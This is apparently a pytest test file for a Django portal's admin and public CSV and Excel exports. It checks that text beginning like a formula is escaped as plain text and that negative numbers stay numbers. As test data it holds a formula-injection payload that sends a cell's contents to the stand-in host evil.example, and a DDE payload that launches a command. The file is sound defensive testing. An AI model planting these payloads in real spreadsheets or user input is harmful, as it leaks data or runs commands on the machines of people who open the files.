"""Exports a spreadsheet opens without running anything (OWASP, CSV injection): a text that begins like a
formula (=, +, -, @, a tab or a carriage return) is shown as the text it is, in the admin's CSV and Excel files
and in the public CSV files, while numbers, negative ones too, stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from apps.bodies.models import Body
from apps.keyfigures.models import KeyFigure
from apps.meetings.models import Meeting
from apps.programme.models import FocusArea, Goal, Programme
from tests.admin.spreadsheets import CSV, XLSX, export, upload

EVIL = '=HYPERLINK("http://evil.example/"&A2,"Klicka")'


def csv_table(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def cells(content: bytes) -> list:
    return [cell for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


@pytest.fixture
def evil_meeting(portal):
    meeting = portal["meetings"][0]
    Meeting.objects.filter(pk=meeting.pk).update(title=EVIL)
    return meeting


def test_a_formula_title_is_text_in_the_admins_csv_export(secretary_client, evil_meeting):
    table = csv_table(export(secretary_client, "meetings_meeting", CSV))

    title = table[0].index("Titel")
    row = next(row for row in table if row[0] == str(evil_meeting.pk))
    assert row[title] == "'" + EVIL
    assert not any(cell.startswith(("=", "+", "@")) for row in table for cell in row)


def test_a_formula_title_is_text_in_the_admins_excel_export(secretary_client, evil_meeting):
    exported = cells(export(secretary_client, "meetings_meeting", XLSX))

    assert not [cell.coordinate for cell in exported if cell.data_type == "f"]
    [title] = [cell for cell in exported if cell.value == EVIL]
    # Stored as a text cell marked as Excel marks one typed with an apostrophe: it stays text when edited.
    assert title.data_type == "s" and title.quotePrefix


@pytest.mark.parametrize("title", ["+SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"])
def test_every_beginning_of_a_formula_is_escaped_in_csv(secretary_client, portal, title):
    meeting = portal["meetings"][0]
    Meeting.objects.filter(pk=meeting.pk).update(title=title)
    table = csv_table(export(secretary_client, "meetings_meeting", CSV))

    row = next(row for row in table if row[0] == str(meeting.pk))
    assert row[table[0].index("Titel")] == "'" + title


def test_a_negative_number_stays_a_number_in_both_exports(secretary_client, portal):
    # Budget amounts cannot be negative (budget_amount_not_negative); a key figure can: a population that shrank.
    KeyFigure.objects.filter(pk=KeyFigure.objects.order_by("pk").first().pk).update(value=Decimal("-150.50"))

    table = csv_table(export(secretary_client, "keyfigures_keyfigure", CSV))
    values = [row[table[0].index("Värde")] for row in table[1:]]
    [negative] = [value for value in values if value.lstrip("'").startswith("-")]
    assert negative.startswith("-") and Decimal(negative.replace(",", ".")) == Decimal("-150.50")

    sheet = openpyxl.load_workbook(io.BytesIO(export(secretary_client, "keyfigures_keyfigure", XLSX))).active
    column = [cell.value for cell in sheet[1]].index("Värde")
    [negative] = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value == -150.5]
    assert negative.data_type == "n"


def test_an_exported_csv_with_a_formula_title_uploaded_unchanged_changes_nothing(secretary_client, evil_meeting):
    preview = upload(secretary_client, "meetings_meeting", export(secretary_client, "meetings_meeting", CSV), CSV)

    page = preview.content.decode()
    assert "errorlist" not in page
    assert "0 nya rader" in page and "0 rader ändras" in page


def test_a_formula_title_is_text_in_the_public_csv_of_meetings(client, db):
    body = Body.objects.create(name="Ledningsgruppen", short_name="Ledningsgruppen", slug="ledningsgruppen",
                               kind=Body.Kind.MANAGEMENT_GROUP)
    Meeting.objects.create(body=body, date=datetime.date(2017, 5, 12), title=EVIL, place="-1+1",
                           agenda_published_at=timezone.now())

    response = client.get("/moten/2017.csv")
    assert response.status_code == 200
    table = csv_table(response.content)
    [row] = table[1:]
    assert row[table[0].index("title")] == "'" + EVIL
    assert row[table[0].index("place")] == "'-1+1"
    assert row[table[0].index("id")].isdigit()


def test_a_formula_goal_is_text_in_the_public_csv_of_the_programme(client, db):
    programme = Programme.objects.create(name="Utvecklingsprogram 2017", slug="utvecklingsprogram-2017",
                                         valid_from=2017)
    area = FocusArea.objects.create(programme=programme, name="@Näringsliv", slug="naringsliv", order=1)
    Goal.objects.create(focus_area=area, title=EVIL, order=1)

    response = client.get("/program/utvecklingsprogram-2017.csv")
    assert response.status_code == 200
    [row] = csv_table(response.content)[1:]
    assert row[1:4] == ["'@Näringsliv", "no", "'" + EVIL]
